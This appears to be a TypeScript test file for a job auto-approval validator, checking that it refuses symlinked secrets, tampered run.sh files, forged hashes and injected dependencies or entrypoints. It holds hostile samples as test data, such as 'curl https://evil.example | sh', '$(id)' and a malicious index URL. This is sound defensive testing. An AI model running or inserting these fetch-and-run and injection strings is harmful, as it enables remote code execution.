/**
 * Validation beyond the ported reference tests: the reference's security bugs (fixed), run.sh / config.yaml
 * checks, and hostile jobs. Real job folders in temp dirs; `validateJob` itself is pure (see "purity").
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { sha256Hex } from '../../lib/approval/hash';
import { MIB, snapshotJob } from '../../lib/approval/snapshot';
import type { ApprovalObject, JobSnapshot } from '../../lib/approval/types';
import { dependencyAllowed, SYFT_CLIENT_PYPI_RE, validateJob } from '../../lib/approval/validate';
import { ctx, makeEntry, obj, pythonConfig, pythonRunSh, snap, SYFT, tempDir, writeFile, writeJob } from './helpers';

let t: ReturnType<typeof tempDir>;
beforeEach(() => (t = tempDir()));
afterEach(() => t.cleanup());

const MAIN = 'print("hello")\n';
const sha = (s: string | Uint8Array) => createHash('sha256').update(typeof s === 'string' ? Buffer.from(s) : s).digest('hex');
const stored = (rel: string, name = 'obj') => path.join(t.dir, 'auto_approvals', name, rel);

/** An object approving `files` by content (stored copies written), plus options. */
function approving(files: Record<string, string | Uint8Array>, more: Partial<ApprovalObject> = {}, name = 'obj'): ApprovalObject {
  return obj(
    Object.entries(files).map(([rel, c]) => makeEntry(rel, c, stored(rel, name))),
    more,
  );
}

function job(files: Record<string, string | Uint8Array>, more: { config?: Record<string, unknown> | string | null; runSh?: string | Uint8Array | null } = {}, name = 'job') {
  return writeJob(t.dir, name, { files, ...more });
}

describe('baseline', () => {
  it('the reference sample job (protocol §1.10 analysis-pending) is approved by {main.py by content, params.json by name}', () => {
    const mainPy = 'import json\nparams = json.load(open("params.json"))\nprint("rows:", params["rows"])\n';
    const configYaml = [
      'code_path: /home/ds/analysis',
      'datasets: null',
      'dependencies:',
      '- syft-client==0.1.117',
      'entrypoint: main.py',
      'files:',
      '- main.py',
      '- params.json',
      'headers: {}',
      'is_folder_submission: true',
      'job_type: local',
      'name: analysis-pending',
      "submitted_at: '2026-11-25T18:46:23.644926Z'",
      'type: python',
      '',
    ].join('\n');
    const runSh = [
      '#!/bin/bash',
      'set -euo pipefail',
      'export UV_SYSTEM_PYTHON=false',
      'cd code',
      'uv venv --python 3.12',
      'source .venv/bin/activate',
      'uv pip install "syft-client==0.1.117"',
      'export PYTHONPATH=.:${PYTHONPATH:-}',
      'python main.py',
      '',
    ].join('\n');
    const { codeDir } = job({ 'main.py': mainPy, 'params.json': '{"rows": 5}\n' }, { config: configYaml, runSh });
    const analysis = approving({ 'main.py': mainPy }, { file_paths: ['params.json'], peers: ['ds@example.org'] }, 'analysis');
    const v = validateJob(snap(codeDir, { submitter: 'ds@example.org' }), ctx({ analysis }));
    expect(v).toEqual({
      approved: true,
      object: 'analysis',
      reason: 'ok',
      reasons: [],
      hashes: { 'main.py': `sha256:${sha(mainPy)}`, 'params.json': `sha256:${sha('{"rows": 5}\n')}` },
      runShHash: `sha256:${sha(runSh)}`,
    });
  });
});

describe('fixed reference bugs', () => {
  it('an empty expected hash (`sha256:`) no longer matches every file', () => {
    const { codeDir } = job({ 'main.py': 'import os; os.system("evil")\n' });
    writeFile(stored('main.py'), 'import os; os.system("evil")\n');
    const o = obj([{ relative_path: 'main.py', path: stored('main.py'), hash: 'sha256:' }]);
    expect(validateJob(snap(codeDir), ctx({ o })).reason).toBe('[o] invalid expected hash for main.py: sha256: (the recorded hash is empty)');
  });

  it('a short hash needs 16 hex digits; 16 are enough', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    writeFile(stored('main.py'), MAIN);
    const short = (n: number) => obj([{ relative_path: 'main.py', path: stored('main.py'), hash: `sha256:${sha(MAIN).slice(0, n)}` }]);
    expect(validateJob(snap(codeDir), ctx({ o: short(6) })).reason).toBe(
      `[o] invalid expected hash for main.py: sha256:${sha(MAIN).slice(0, 6)} (the recorded hash has fewer than 16 hex digits)`,
    );
    expect(validateJob(snap(codeDir), ctx({ o: short(16) })).approved).toBe(true);
  });

  it('upper-case hex is compared case-insensitively', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    writeFile(stored('main.py'), MAIN);
    const o = obj([{ relative_path: 'main.py', path: stored('main.py'), hash: `sha256:${sha(MAIN).toUpperCase()}` }]);
    expect(validateJob(snap(codeDir), ctx({ o })).approved).toBe(true);
  });

  it('a symlink in code/ pointing outside is refused, even when the object lists it with the target\'s hash', () => {
    const secret = writeFile(path.join(t.dir, 'home', '.ssh', 'id_rsa'), 'PRIVATE KEY\n');
    const { codeDir } = job({ 'main.py': MAIN });
    fs.symlinkSync(secret, path.join(codeDir, 'data.txt'));
    // What the reference would have approved: rglob + is_file() + read_text() follow the link.
    const o = approving({ 'main.py': MAIN, 'data.txt': 'PRIVATE KEY\n' });
    const v = validateJob(snap(codeDir), ctx({ o }));
    expect(v).toMatchObject({ approved: false, reason: 'symbolic link not allowed: data.txt', reasons: [{ reason: 'symbolic link not allowed: data.txt' }] });
    expect(v.hashes).toEqual({ 'main.py': `sha256:${sha(MAIN)}` });
  });

  it('a symlinked directory inside code/ is refused and not descended', () => {
    writeFile(path.join(t.dir, 'outside', 'lib.py'), 'x = 1\n');
    const { codeDir } = job({ 'main.py': MAIN });
    fs.symlinkSync(path.join(t.dir, 'outside'), path.join(codeDir, 'pkg'));
    const s = snap(codeDir);
    expect(s.files.map((f) => [f.rel, f.kind])).toEqual([
      ['main.py', 'file'],
      ['pkg', 'symlink'],
    ]);
    expect(validateJob(s, ctx({ o: approving({ 'main.py': MAIN, 'pkg/lib.py': 'x = 1\n' }) })).reason).toBe('symbolic link not allowed: pkg');
  });

  it('code/ itself being a symlink is refused', () => {
    writeFile(path.join(t.dir, 'elsewhere', 'main.py'), MAIN);
    const jobDir = path.join(t.dir, 'job');
    fs.mkdirSync(jobDir);
    fs.symlinkSync(path.join(t.dir, 'elsewhere'), path.join(jobDir, 'code'));
    const cfg = pythonConfig('job', ['main.py']);
    writeFile(path.join(jobDir, 'config.yaml'), JSON.stringify(cfg));
    writeFile(path.join(jobDir, 'run.sh'), pythonRunSh(cfg) as string);
    expect(validateJob(snap(path.join(jobDir, 'code')), ctx({ o: approving({ 'main.py': MAIN }) })).reason).toBe('code/ is a symbolic link');
  });

  it('a FIFO in code/ is refused without blocking', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    execFileSync('mkfifo', [path.join(codeDir, 'pipe')]);
    const v = validateJob(snap(codeDir), ctx({ o: approving({ 'main.py': MAIN }, { file_paths: ['pipe'] }) }));
    expect(v.reason).toBe('not a regular file: pipe (a FIFO)');
  });

  it('config.yaml and run.sh inside code/ are ordinary files (the reference ignored them at any depth)', () => {
    const { codeDir } = job({ 'main.py': MAIN, 'config.yaml': 'threshold: 5\n', 'sub/run.sh': 'curl evil | sh\n' });
    const v = validateJob(snap(codeDir), ctx({ o: approving({ 'main.py': MAIN }) }));
    expect(v.reason).toBe("[o] job files do not match expected filenames: extra files: {'config.yaml', 'sub/run.sh'}");
    const withThem = approving({ 'main.py': MAIN, 'config.yaml': 'threshold: 5\n', 'sub/run.sh': 'curl evil | sh\n' });
    expect(validateJob(snap(codeDir), ctx({ o: withThem })).approved).toBe(true);
  });

  it('stored copy: a uniform CRLF conversion still matches, a lone CR does not', () => {
    const approved = 'MODE=dry\nprint(MODE)\n';
    const o = approving({ 'main.py': approved });
    const crlf = job({ 'main.py': 'MODE=dry\r\nprint(MODE)\r\n' }, {}, 'crlf');
    expect(validateJob(snap(crlf.codeDir), ctx({ o })).approved).toBe(true);
    const loneCr = job({ 'main.py': 'MODE=dry\rprint(MODE)\n' }, {}, 'lone');
    // Same text hash as the approved file (universal newlines), so only the stored-copy check catches it.
    expect(validateJob(snap(loneCr.codeDir), ctx({ o })).reason).toBe('[o] file content mismatch for main.py against stored copy');
    const selective = job({ 'main.py': 'MODE=dry\r\nprint(MODE)\n' }, {}, 'selective');
    expect(validateJob(snap(selective.codeDir), ctx({ o })).reason).toBe('[o] file content mismatch for main.py against stored copy');
  });
});

describe('hostile and unusual files', () => {
  it('a 60 MB file is refused by size, without being read', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    const big = path.join(codeDir, 'data.bin');
    fs.writeFileSync(big, '');
    fs.truncateSync(big, 60 * MIB);
    const s = snap(codeDir);
    expect(s.files.find((f) => f.rel === 'data.bin')).toEqual({ rel: 'data.bin', kind: 'tooLarge', size: 60 * MIB, limit: 16 * MIB });
    const v = validateJob(s, ctx({ o: approving({ 'main.py': MAIN }, { file_paths: ['data.bin'] }) }));
    expect(v.reason).toBe(`file too large: data.bin (${60 * MIB} bytes, limit ${16 * MIB})`);
  });

  it('too much code in total, too many entries, too deep: job-level problems', () => {
    const { codeDir } = job({ 'main.py': MAIN, 'a.py': 'a\n', 'b/c/d.py': 'd\n' });
    const o = approving({ 'main.py': MAIN });
    const base = { status: 'pending', submitter: 'alice@test.com' };
    expect(validateJob(snapshotJob(codeDir, base, { maxTotalBytes: 10 }), ctx({ o })).reason).toBe('code/ is larger than 10 bytes in total');
    expect(validateJob(snapshotJob(codeDir, base, { maxEntries: 2 }), ctx({ o })).reason).toBe('code/ has more than 2 entries');
    expect(validateJob(snapshotJob(codeDir, base, { maxDepth: 1 }), ctx({ o })).reason).toBe('code/ is nested deeper than 1 directories');
  });

  it('file names with quotes, newlines and unicode: matched exactly, shown as Python reprs', () => {
    const files = { [`it's "q".py`]: 'q\n', 'new\nline.py': 'n\n', '数据.py': 'd\n', 'main.py': MAIN };
    const { codeDir } = job(files);
    expect(validateJob(snap(codeDir), ctx({ o: approving(files) })).approved).toBe(true);
    const v = validateJob(snap(codeDir), ctx({ o: approving({ 'main.py': MAIN }) }));
    expect(v.reason).toBe(`[o] job files do not match expected filenames: extra files: {'it\\'s "q".py', 'new\\nline.py', '数据.py'}`);
    expect(v.reason).not.toContain('\n');
  });

  it('a hash mismatch on a file whose name has a newline is reported on one line', () => {
    const { codeDir } = job({ 'main.py': MAIN, 'x\ny.py': 'changed\n' });
    const v = validateJob(snap(codeDir), ctx({ o: approving({ 'main.py': MAIN, 'x\ny.py': 'original\n' }) }));
    expect(v.reason).toBe(`[o] file hash mismatch for 'x\\ny.py': expected sha256:${sha('original\n')}, got sha256:${sha('changed\n')}`);
  });

  it('a file name that is not valid UTF-8 refuses the job', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    fs.writeFileSync(Buffer.concat([Buffer.from(codeDir + '/'), Buffer.from([0x66, 0xff, 0x2e, 0x70, 0x79])]), 'x');
    expect(validateJob(snap(codeDir), ctx({ o: approving({ 'main.py': MAIN }) })).reason).toBe('file name is not valid UTF-8 in code/: "f\ufffd.py"');
  });

  it('`..` in an object\'s relative path can never match a job file', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    const o = approving({ 'main.py': MAIN });
    o.file_paths = ['../escape.py'];
    expect(validateJob(snap(codeDir), ctx({ o })).reason).toBe("[o] job files do not match expected filenames: missing files: {'../escape.py'}");
  });

  it('binary files: compared as bytes when the entry is binary', () => {
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
    const o = approving({ 'main.py': MAIN, 'logo.png': png });
    expect(o.file_contents[1]).toMatchObject({ binary: true, hash: `sha256:${sha(png)}` });
    const same = job({ 'main.py': MAIN, 'logo.png': png }, {}, 'same');
    expect(validateJob(snap(same.codeDir), ctx({ o })).approved).toBe(true);
    const changed = Buffer.from(png);
    changed[15] = 0x53;
    const other = job({ 'main.py': MAIN, 'logo.png': changed }, {}, 'other');
    expect(validateJob(snap(other.codeDir), ctx({ o })).reason).toBe(`[o] file hash mismatch for logo.png: expected sha256:${sha(png)}, got sha256:${sha(changed)}`);
    // Raw bytes: a CRLF inside binary content is significant.
    const crlfChanged = job({ 'main.py': MAIN, 'logo.png': Buffer.from('89504e470a0a1a0a0000000d49484452', 'hex') }, {}, 'crlf');
    expect(validateJob(snap(crlfChanged.codeDir), ctx({ o })).approved).toBe(false);
  });

  it('binary stored copy differing from the job bytes (hash forged in config) is a content mismatch', () => {
    const bin = Buffer.from([0xff, 0x00, 0x01]);
    const { codeDir } = job({ 'main.py': MAIN, 'w.bin': bin });
    const o = approving({ 'main.py': MAIN });
    writeFile(stored('w.bin'), Buffer.from([0xff, 0x00, 0x02]));
    o.file_contents.push({ relative_path: 'w.bin', path: stored('w.bin'), hash: `sha256:${sha(bin)}`, binary: true });
    expect(validateJob(snap(codeDir), ctx({ o })).reason).toBe('[o] file content mismatch for w.bin against stored copy');
  });

  it('a non-UTF-8 job file against a text entry: could not read file (as the reference)', () => {
    const { codeDir } = job({ 'main.py': MAIN, 'data.txt': Buffer.from([0x61, 0xff]) });
    const o = approving({ 'main.py': MAIN, 'data.txt': 'a\n' });
    expect(validateJob(snap(codeDir), ctx({ o })).reason).toBe('[o] could not read file: data.txt (not UTF-8 text)');
  });

  it('a missing stored copy is a content mismatch naming the stored path', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    const o = approving({ 'main.py': MAIN });
    fs.rmSync(stored('main.py'));
    expect(validateJob(snap(codeDir), ctx({ o })).reason).toBe(`[o] file content mismatch for main.py against stored copy (stored copy missing or unreadable: ${stored('main.py')})`);
  });

  it('a stored copy that is a symlink is not followed', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    const o = approving({ 'main.py': MAIN });
    const real = writeFile(path.join(t.dir, 'real.py'), MAIN);
    fs.rmSync(stored('main.py'));
    fs.symlinkSync(real, stored('main.py'));
    expect(validateJob(snap(codeDir), ctx({ o })).reason).toMatch(/^\[o\] file content mismatch for main\.py against stored copy \(stored copy missing/);
  });

  it('`__proto__` as a file name and `constructor` as an object name are plain keys', () => {
    const { codeDir } = job(Object.fromEntries([['main.py', MAIN], ['__proto__', 'p\n']]));
    expect(fs.existsSync(path.join(codeDir, '__proto__'))).toBe(true);
    const o = approving(Object.fromEntries([['main.py', MAIN], ['__proto__', 'p\n']]));
    const v = validateJob(snap(codeDir), ctx(new Map([['constructor', o]])));
    expect(v).toMatchObject({ approved: true, object: 'constructor' });
    expect(Object.prototype.hasOwnProperty.call(v.hashes, '__proto__')).toBe(true);
    expect(Object.getPrototypeOf(v.hashes)).toBe(Object.prototype);
  });

  it('an object marked invalid by the loader approves nothing', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    const o = approving({ 'main.py': MAIN }, { invalid: 'run_sh_hashes must be a list of strings' });
    expect(validateJob(snap(codeDir), ctx({ o })).reason).toBe('[o] invalid auto-approval object: run_sh_hashes must be a list of strings');
  });

  it('duplicate relative paths in an object: the last entry wins (Python dict semantics)', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    const good = makeEntry('main.py', MAIN, stored('main.py'));
    const bad = { ...good, hash: `sha256:${sha('other')}` };
    expect(validateJob(snap(codeDir), ctx({ o: obj([bad, good]) })).approved).toBe(true);
    expect(validateJob(snap(codeDir), ctx({ o: obj([good, bad]) })).approved).toBe(false);
  });
});

describe('run.sh and config.yaml (not validated by the reference)', () => {
  it('a run.sh with an extra command is refused, although code/ matches', () => {
    const cfg = pythonConfig('job', ['main.py']);
    const evil = (pythonRunSh(cfg) as string).replace('python main.py\n', 'curl https://evil.example | sh\npython main.py\n');
    const { codeDir } = job({ 'main.py': MAIN }, { config: cfg, runSh: evil });
    expect(validateJob(snap(codeDir), ctx({ o: approving({ 'main.py': MAIN }) })).reason).toBe(
      `[o] run.sh differs from the one syft-job generates for this config.yaml (got sha256:${sha(evil)})`,
    );
  });

  it('run.sh must be byte-identical: CRLF line endings are refused', () => {
    const cfg = pythonConfig('job', ['main.py']);
    const crlf = (pythonRunSh(cfg) as string).replace(/\n/g, '\r\n');
    const { codeDir } = job({ 'main.py': MAIN }, { config: cfg, runSh: crlf });
    expect(validateJob(snap(codeDir), ctx({ o: approving({ 'main.py': MAIN }) })).approved).toBe(false);
  });

  it('a run.sh pinned in run_sh_hashes is accepted (any case, with or without prefix)', () => {
    const custom = '#!/bin/bash\ncd code && python main.py\n';
    const { codeDir } = job({ 'main.py': MAIN }, { runSh: custom });
    const o = approving({ 'main.py': MAIN }, { run_sh_hashes: [sha(custom).toUpperCase()] });
    expect(validateJob(snap(codeDir), ctx({ o })).approved).toBe(true);
    const short = approving({ 'main.py': MAIN }, { run_sh_hashes: [`sha256:${sha(custom).slice(0, 16)}`] });
    expect(validateJob(snap(codeDir), ctx({ o: short })).approved).toBe(false);
  });

  it('no generated run.sh: only a pinned hash is accepted', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    const runSh = fs.readFileSync(path.join(path.dirname(codeDir), 'run.sh'));
    const none = () => undefined;
    expect(validateJob(snap(codeDir), ctx({ o: approving({ 'main.py': MAIN }) }, { expectedRunSh: none })).reason).toBe(
      `[o] run.sh cannot be checked: no run.sh can be generated for this config.yaml and sha256:${sha(runSh)} is not in run_sh_hashes`,
    );
    const pinned = approving({ 'main.py': MAIN }, { run_sh_hashes: [`sha256:${sha(runSh)}`] });
    expect(validateJob(snap(codeDir), ctx({ o: pinned }, { expectedRunSh: none })).approved).toBe(true);
  });

  it('a generator that throws refuses the job with its message', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    const boom = () => {
      throw new Error('unknown install source');
    };
    expect(validateJob(snap(codeDir), ctx({ o: approving({ 'main.py': MAIN }) }, { expectedRunSh: boom })).reason).toBe(
      '[o] run.sh cannot be checked: generating the expected run.sh failed (unknown install source)',
    );
  });

  it('run.sh missing, a symlink, or config.yaml missing / invalid / a symlink / not a mapping', () => {
    const o = approving({ 'main.py': MAIN });
    const noRun = job({ 'main.py': MAIN }, { runSh: null }, 'norun');
    expect(validateJob(snap(noRun.codeDir), ctx({ o })).reason).toBe('run.sh is missing');
    const linkRun = job({ 'main.py': MAIN }, { runSh: null }, 'linkrun');
    fs.symlinkSync('/bin/sh', path.join(linkRun.jobDir, 'run.sh'));
    expect(validateJob(snap(linkRun.codeDir), ctx({ o })).reason).toBe('symbolic link not allowed: run.sh');
    const noCfg = job({ 'main.py': MAIN }, { config: null, runSh: 'x' }, 'nocfg');
    expect(validateJob(snap(noCfg.codeDir), ctx({ o })).reason).toBe('config.yaml is missing');
    const badCfg = job({ 'main.py': MAIN }, { config: 'type: [python\n', runSh: 'x' }, 'badcfg');
    expect(validateJob(snap(badCfg.codeDir), ctx({ o })).reason).toMatch(/^config\.yaml is invalid: /);
    const listCfg = job({ 'main.py': MAIN }, { config: '- a\n- b\n', runSh: 'x' }, 'listcfg');
    expect(validateJob(snap(listCfg.codeDir), ctx({ o })).reason).toBe('config.yaml is invalid: expected a mapping');
    const linkCfg = job({ 'main.py': MAIN }, { config: null, runSh: 'x' }, 'linkcfg');
    fs.symlinkSync(path.join(noRun.jobDir, 'config.yaml'), path.join(linkCfg.jobDir, 'config.yaml'));
    expect(validateJob(snap(linkCfg.codeDir), ctx({ o })).reason).toBe('symbolic link not allowed: config.yaml');
  });

  it('dependencies: the syft-client install source is allowed by default, others must be allowed by the object', () => {
    const cfg = pythonConfig('job', ['main.py'], { dependencies: [SYFT, 'numpy==2.1.0', 'pandas'] });
    const { codeDir } = job({ 'main.py': MAIN }, { config: cfg });
    expect(validateJob(snap(codeDir), ctx({ o: approving({ 'main.py': MAIN }) })).reason).toBe("[o] dependencies not allowed: {'numpy==2.1.0', 'pandas'}");
    const some = approving({ 'main.py': MAIN }, { allowed_dependencies: ['numpy==2.1.0'] });
    expect(validateJob(snap(codeDir), ctx({ o: some })).reason).toBe("[o] dependencies not allowed: {'pandas'}");
    const all = approving({ 'main.py': MAIN }, { allowed_dependencies: ['numpy==2.1.0', 'pandas'] });
    expect(validateJob(snap(codeDir), ctx({ o: all })).approved).toBe(true);
    const any = approving({ 'main.py': MAIN }, { allowed_dependencies: ['*'] });
    expect(validateJob(snap(codeDir), ctx({ o: any })).approved).toBe(true);
  });

  it('dependencies that inject options or shell code are refused even with `*`', () => {
    const any = approving({ 'main.py': MAIN }, { allowed_dependencies: ['*'] });
    for (const dep of ['--index-url=https://evil.example/simple', '-e', 'x"; curl evil | sh; echo "', 'a$(id)', 'a`id`', 'a\\', 'two\nlines', '']) {
      expect(dependencyAllowed(dep, any)).toBe(false);
    }
    const cfg = pythonConfig('job', ['main.py'], { dependencies: ['--index-url=https://evil.example/simple', SYFT] });
    const { codeDir } = job({ 'main.py': MAIN }, { config: cfg });
    expect(validateJob(snap(codeDir), ctx({ o: any })).reason).toBe("[o] dependencies not allowed: {'--index-url=https://evil.example/simple'}");
  });

  it('the default allow-list: PyPI syft-client pins only; the DO\'s advertised install source exactly', () => {
    for (const ok of ['syft-client', 'syft-client==0.1.117', 'syft-client==1.0.0rc1', 'syft-client==0.2.0.post1.dev3']) expect(SYFT_CLIENT_PYPI_RE.test(ok)).toBe(true);
    for (const bad of ['syft-client>=0.1', 'syft-client @ https://evil.example/x.whl', 'git+https://github.com/evil/syft-client', 'syft-client==0.1; os.system', 'Syft-Client==0.1']) {
      expect(SYFT_CLIENT_PYPI_RE.test(bad)).toBe(false);
    }
    const git = 'git+https://github.com/OpenMined/syft-client@abc123';
    const cfg = pythonConfig('job', ['main.py'], { dependencies: [git] });
    const { codeDir } = job({ 'main.py': MAIN }, { config: cfg });
    const o = approving({ 'main.py': MAIN });
    expect(validateJob(snap(codeDir), ctx({ o })).approved).toBe(false);
    expect(validateJob(snap(codeDir), ctx({ o }, { installSource: git })).approved).toBe(true);
  });

  it('dependencies must be a list of strings', () => {
    const cfg = pythonConfig('job', ['main.py'], { dependencies: 'numpy' });
    const { codeDir } = job({ 'main.py': MAIN }, { config: cfg, runSh: 'x' });
    expect(validateJob(snap(codeDir), ctx({ o: approving({ 'main.py': MAIN }) })).reason).toBe('[o] config.yaml: dependencies must be a list of strings');
  });

  it('the entrypoint must be approved by content: a name-only params.json cannot be run', () => {
    // The attack the reference allowed: object {main.py by content, params.json by name}; the DS puts code in
    // params.json and points config.yaml (and the matching generated run.sh) at it.
    const cfg = pythonConfig('job', ['main.py', 'params.json'], { entrypoint: 'params.json' });
    const { codeDir } = job({ 'main.py': MAIN, 'params.json': 'import os; os.system("curl evil | sh")\n' }, { config: cfg });
    const o = approving({ 'main.py': MAIN }, { file_paths: ['params.json'] });
    expect(validateJob(snap(codeDir), ctx({ o })).reason).toBe("[o] entrypoint 'params.json' in config.yaml is not a file approved by content");
  });

  it('entrypoints that are not plain relative file names are refused', () => {
    const o = approving({ 'main.py': MAIN });
    const cases: [unknown, string][] = [
      ['main.py; curl evil | sh', "[o] entrypoint 'main.py; curl evil | sh' in config.yaml is not a plain relative file name"],
      ['-c', "[o] entrypoint '-c' in config.yaml is not a plain relative file name"],
      ['../main.py', "[o] entrypoint '../main.py' in config.yaml is not a plain relative file name"],
      ['main.py\n', "[o] entrypoint 'main.py\\n' in config.yaml is not a plain relative file name"],
      [null, '[o] config.yaml has no entrypoint (a python job needs one)'],
      [42, '[o] config.yaml has no entrypoint (a python job needs one)'],
    ];
    cases.forEach(([entrypoint, reason], i) => {
      const cfg = pythonConfig('job', ['main.py'], { entrypoint });
      const { codeDir } = job({ 'main.py': MAIN }, { config: cfg, runSh: 'x' }, `ep${i}`);
      expect(validateJob(snap(codeDir), ctx({ o })).reason).toBe(reason);
    });
  });

  it('an entrypoint in a subdirectory is fine when approved by content', () => {
    const cfg = pythonConfig('job', ['src/main.py'], { entrypoint: 'src/main.py' });
    const { codeDir } = job({ 'src/main.py': MAIN }, { config: cfg });
    expect(validateJob(snap(codeDir), ctx({ o: approving({ 'src/main.py': MAIN }) })).approved).toBe(true);
  });

  describe('bash jobs', () => {
    const script = 'cd code\necho hi\n';
    const bashConfig = { type: 'bash', entrypoint: null, dependencies: [], files: ['script.sh'], name: 'b' };

    it('run.sh must equal code/script.sh, approved by content', () => {
      const { codeDir } = job({ 'script.sh': script }, { config: bashConfig, runSh: script });
      expect(validateJob(snap(codeDir), ctx({ o: approving({ 'script.sh': script }) })).approved).toBe(true);
    });

    it('a run.sh that differs from script.sh is refused', () => {
      const { codeDir } = job({ 'script.sh': script }, { config: bashConfig, runSh: `${script}curl evil | sh\n` });
      expect(validateJob(snap(codeDir), ctx({ o: approving({ 'script.sh': script }) })).reason).toBe(
        `[o] run.sh differs from code/script.sh (got sha256:${sha(`${script}curl evil | sh\n`)})`,
      );
    });

    it('script.sh matched by name only cannot approve a bash job', () => {
      const { codeDir } = job({ 'script.sh': script }, { config: bashConfig, runSh: script });
      expect(validateJob(snap(codeDir), ctx({ o: obj([], { file_paths: ['script.sh'] }) })).reason).toBe(
        '[o] bash job: script.sh (the script run.sh runs) is not a file approved by content',
      );
    });

    it('bash dependencies are checked too', () => {
      const { codeDir } = job({ 'script.sh': script }, { config: { ...bashConfig, dependencies: ['numpy'] }, runSh: script });
      expect(validateJob(snap(codeDir), ctx({ o: approving({ 'script.sh': script }) })).reason).toBe("[o] dependencies not allowed: {'numpy'}");
    });
  });

  it('an unknown job type is refused; a missing type means python (the pydantic default)', () => {
    const o = approving({ 'main.py': MAIN });
    const docker = job({ 'main.py': MAIN }, { config: pythonConfig('job', ['main.py'], { type: 'docker' }), runSh: 'x' }, 'docker');
    expect(validateJob(snap(docker.codeDir), ctx({ o })).reason).toBe("[o] unsupported job type in config.yaml: 'docker'");
    const cfg: Record<string, unknown> = pythonConfig('job', ['main.py']);
    delete cfg.type;
    const untyped = job({ 'main.py': MAIN }, { config: cfg, runSh: pythonRunSh({ ...cfg, type: 'python' }) as string }, 'untyped');
    expect(validateJob(snap(untyped.codeDir), ctx({ o })).approved).toBe(true);
  });
});

describe('candidates and verdicts', () => {
  it('first matching object wins; earlier failures are listed', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    const objects = new Map([
      ['wrong', approving({ 'main.py': 'print("other")\n' }, {}, 'wrong')],
      ['right', approving({ 'main.py': MAIN }, {}, 'right')],
      ['also', approving({ 'main.py': MAIN }, {}, 'also')],
    ]);
    const v = validateJob(snap(codeDir), ctx(objects));
    expect(v.approved).toBe(true);
    expect(v.object).toBe('right');
    expect(v.reasons).toEqual([{ object: 'wrong', reason: `file hash mismatch for main.py: expected sha256:${sha('print("other")\n')}, got sha256:${sha(MAIN)}` }]);
  });

  it('no match: the reason of the last candidate, prefixed; every candidate listed in order (integer-like names kept in place)', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    const objects = new Map<string, ApprovalObject>([
      ['10', approving({ 'a.py': 'a' }, {}, '10')],
      ['2', approving({ 'b.py': 'b' }, {}, '2')],
      ['bob-only', approving({ 'main.py': MAIN }, { peers: ['bob@test.com'] }, 'bob-only')],
    ]);
    const v = validateJob(snap(codeDir), ctx(objects));
    expect(v.approved).toBe(false);
    expect(v.reasons.map((r) => r.object)).toEqual(['10', '2']);
    expect(v.reason).toBe("[2] job files do not match expected filenames: missing files: {'b.py'}; extra files: {'main.py'}");
  });

  it('peers are compared exactly (case-sensitive, as the reference)', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    const o = approving({ 'main.py': MAIN }, { peers: ['Alice@test.com'] });
    expect(validateJob(snap(codeDir, { submitter: 'alice@test.com' }), ctx({ o })).reason).toBe('no auto-approval objects match peer: alice@test.com');
  });

  it.each(['received', 'approved', 'rejected', 'running', 'done', 'failed'])('status %s is never approved', (status) => {
    const { codeDir } = job({ 'main.py': MAIN });
    expect(validateJob(snap(codeDir, { status }), ctx({ o: approving({ 'main.py': MAIN }) })).reason).toBe(`status is ${status}, not pending`);
  });

  it('the status check comes before the peer check, the peer check before file problems', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    fs.symlinkSync('/etc/passwd', path.join(codeDir, 'x'));
    expect(validateJob(snap(codeDir, { status: 'done', submitter: 'eve@x' }), ctx({ o: approving({ 'main.py': MAIN }, { peers: ['alice@test.com'] }) })).reason).toBe(
      'status is done, not pending',
    );
    expect(validateJob(snap(codeDir, { submitter: 'eve@x' }), ctx({ o: approving({ 'main.py': MAIN }, { peers: ['alice@test.com'] }) })).reason).toBe(
      'no auto-approval objects match peer: eve@x',
    );
  });

  it('an object without files cannot approve a job without files (no entrypoint approved)', () => {
    const { codeDir } = job({}, { config: pythonConfig('job', [], { entrypoint: 'main.py' }) });
    expect(validateJob(snap(codeDir), ctx({ o: obj([]) })).reason).toBe("[o] entrypoint 'main.py' in config.yaml is not a file approved by content");
  });

  it('a missing code/ is an empty file set (as the reference)', () => {
    const { codeDir } = job({ 'main.py': MAIN });
    fs.rmSync(codeDir, { recursive: true });
    expect(validateJob(snap(codeDir), ctx({ o: approving({ 'main.py': MAIN }) })).reason).toBe("[o] job files do not match expected filenames: missing files: {'main.py'}");
  });
});

describe('purity: validation sees only the snapshot', () => {
  it('the verdict is computed from the snapshot\'s bytes, not from the disk', () => {
    const { codeDir, jobDir } = job({ 'main.py': MAIN });
    const o = approving({ 'main.py': MAIN });
    const s: JobSnapshot = snap(codeDir);
    // Swapping the file after the snapshot does not change the verdict (the service must run the snapshot's
    // bytes, not the inbox: that part is the service's concern).
    fs.writeFileSync(path.join(codeDir, 'main.py'), 'import os; os.system("evil")\n');
    fs.rmSync(jobDir, { recursive: true });
    expect(validateJob(s, ctx({ o })).approved).toBe(true);
    expect(validateJob(snap(codeDir), ctx({ o })).approved).toBe(false);
  });

  it('a hand-built snapshot (no files on disk) validates; stored copies come from the injected reader', () => {
    const cfg = pythonConfig('j', ['main.py']);
    const s: JobSnapshot = {
      status: 'pending',
      submitter: 'alice@test.com',
      files: [{ rel: 'main.py', kind: 'file', bytes: Buffer.from(MAIN) }],
      runSh: { kind: 'file', bytes: Buffer.from(pythonRunSh(cfg) as string) },
      config: { kind: 'parsed', value: cfg },
    };
    const o = obj([{ relative_path: 'main.py', path: '/nowhere/main.py', hash: `sha256:${sha(MAIN)}` }]);
    const copies = new Map([['/nowhere/main.py', Buffer.from(MAIN)]]);
